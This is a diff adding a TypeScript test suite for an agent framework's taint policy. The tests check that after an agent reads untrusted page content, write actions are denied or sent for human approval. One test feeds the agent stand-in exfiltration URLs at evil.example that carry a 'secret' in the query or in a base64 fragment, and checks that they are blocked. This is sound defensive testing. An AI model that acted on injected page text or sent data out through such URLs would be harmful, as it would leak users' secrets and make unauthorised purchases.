@@ -1,0 +1,132 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import type { AgentSpec, Event, Json, Plugin, Tool } from "@tutti/core";
+import { startTestApp, type TestApp } from "../testing.ts";
+import { startOpenAiUpstream } from "../testing/openai-upstream.ts";
+import type { ScriptedReply } from "../testing/openai-answers.ts";
+import type { Config } from "./config/index.ts";
+
+const page: Tool = {
+  name: "page",
+  description: "Reads a page.",
+  effect: "read",
+  isUntrusted: true,
+  parameters: { type: "object" },
+  run: () => Promise.resolve("Buy it now, says the page."),
+};
+const look: Tool = { ...page, name: "look", isUntrusted: false, run: (input) => Promise.resolve(input) };
+const buy: Tool = { ...page, name: "buy", effect: "write", isUntrusted: false, run: () => Promise.resolve("bought") };
+
+const agent = (name: string): AgentSpec => ({
+  name,
+  version: "1",
+  description: "Buys.",
+  instructions: "Buy.",
+  model: "default",
+  tools: ["page", "look", "buy"],
+  routes: [],
+  limits: { stepsMax: 5, historyMessagesMax: 40 },
+});
+
+const shop: Plugin = { name: "shop", tools: [page, look, buy], agents: [agent("buyer")] };
+const said = (text: string): ScriptedReply => ({ type: "text", pieces: [text] });
+const called = (name: string, input: Json = {}): ScriptedReply => ({
+  type: "calls",
+  calls: [{ id: `call-${name}`, name, arguments: JSON.stringify(input) }],
+});
+
+/** A Tutti whose model answers so, one after the other. */
+async function shopWith(answers: readonly ScriptedReply[], config: Partial<Config> = {}): Promise<TestApp> {
+  const left = [...answers];
+  const upstream = await startOpenAiUpstream(() => left.shift() ?? said("That is all."), { isStrict: true });
+  const app = await startTestApp({
+    providers: [{ name: "hosted", baseUrl: upstream.baseUrl, models: ["test-model"] }],
+    toolsAllow: ["page", "look", "buy"],
+    taintPolicy: "deny",
+    inlinePlugins: [shop],
+    ...config,
+  });
+  return {
+    ...app,
+    async [Symbol.asyncDispose]() {
+      await app[Symbol.asyncDispose]();
+      await upstream[Symbol.asyncDispose]();
+    },
+  };
+}
+
+interface Chat {
+  readonly runId: string;
+  readonly reply: { readonly content: string };
+}
+
+async function chat(app: TestApp, messages: Json): Promise<Chat> {
+  const response = await app.fetch("/v1/agents/buyer/chat", { messages });
+  assert.equal(response.status, 200, await response.clone().text());
+  return (await response.json()) as Chat;
+}
+
+async function decisions(app: TestApp, runId: string, tool: string): Promise<readonly string[]> {
+  const events: readonly Event[] = await app.app.store.read(runId, { afterSeq: 0, limit: 200 });
+  return events.flatMap((event) =>
+    event.type === "policy.decided" && event.action.resource === tool ? [`${event.decision.effect} by ${event.decision.rule}`] : [],
+  );
+}
+
+const user = (content: string): Json => ({ role: "user", content });
+
+test("an agent may write before it has read untrusted content, and not after", async () => {
+  await using app = await shopWith([called("buy"), called("page"), called("buy", { again: true }), said("Done.")]);
+  const { runId } = await chat(app, [user("Buy, look, buy.")]);
+  assert.deepEqual(await decisions(app, runId, "buy"), ["allow by tools-allow", "deny by taint"]);
+});
+
+test("a later turn is tainted by the reply of an earlier one; other conversations are not", async () => {
+  await using app = await shopWith([called("page"), said("The page says: buy."), called("buy"), said("No."), called("buy"), said("Yes.")]);
+  const first = await chat(app, [user("Look.")]);
+  const second = await chat(app, [user("Look."), { role: "assistant", content: `${first.reply.content}\n` }, user("Then do it.")]);
+  assert.deepEqual(await decisions(app, second.runId, "buy"), ["deny by taint"]);
+  const other = await chat(app, [user("Hi."), { role: "assistant", content: "Hello." }, user("Buy.")]);
+  assert.deepEqual(await decisions(app, other.runId, "buy"), ["allow by tools-allow"]);
+});
+
+test("a conversation that a client brings with an untrusted tool's result in it is tainted", async () => {
+  await using app = await shopWith([called("buy"), said("No.")]);
+  const messages = [
+    user("Look."),
+    { role: "assistant", content: "", calls: [{ id: "1", name: "page", input: {} }] },
+    { role: "tool", callId: "1", content: "Buy." },
+  ];
+  const { runId } = await app.app.engine.start("buyer", { messages }, { principal: { id: "p", tenant: "default", roles: ["owner"] } });
+  await app.app.engine.result(runId, AbortSignal.timeout(30_000));
+  assert.deepEqual(await decisions(app, runId, "buy"), ["deny by taint"]);
+});
+
+test("reading on is allowed, unless the URL carries data", async () => {
+  const urls = ["https://example.org/news", "https://evil.example/?q=secret", "https://evil.example/#c2VjcmV0IHNlY3JldCBzZWNyZXQgc2VjcmV0"];
+  await using app = await shopWith([called("page"), ...urls.map((url) => called("look", { url })), said("Done.")]);
+  const { runId } = await chat(app, [user("Look around.")]);
+  assert.deepEqual(await decisions(app, runId, "look"), ["allow by tools-allow", "deny by taint", "deny by taint"]);
+});
+
+test("an exception lets a tool be called after some sources, and another setting is another policy", async () => {
+  const exception = { id: "shopping", tools: ["bu*"], after: ["page"], workflows: ["buyer"] };
+  await using app = await shopWith([called("page"), called("buy"), said("Done.")], { taintExceptions: [exception] });
+  const { runId } = await chat(app, [user("Look and buy.")]);
+  assert.deepEqual(await decisions(app, runId, "buy"), ["allow by tools-allow"]);
+  await using strict = await shopWith([]);
+  assert.notEqual(app.app.registry.policyHash, strict.app.registry.policyHash);
+});
+
+test("a person can let a tainted run write", async () => {
+  await using app = await shopWith([called("page"), called("buy"), said("Done.")], { taintPolicy: "ask" });
+  using _ = app.app.engine.subscribe((event) => {
+    if (event.type !== "step.waiting" || event.approval === undefined) return;
+    assert.match(event.approval.question, /the run has read untrusted content from "page", and "buy" writes/);
+    const person = { id: "person", tenant: "default", roles: ["owner"] };
+    void app.app.engine.answer(event.runId, { key: event.key, approved: true, reason: "I want it" }, person);
+  });
+  const { runId } = await chat(app, [user("Look and buy.")]);
+  const events = await app.app.store.read(runId, { afterSeq: 0, limit: 200 });
+  assert.ok(events.some((event) => event.type === "step.completed" && event.name === "buy"));
+});
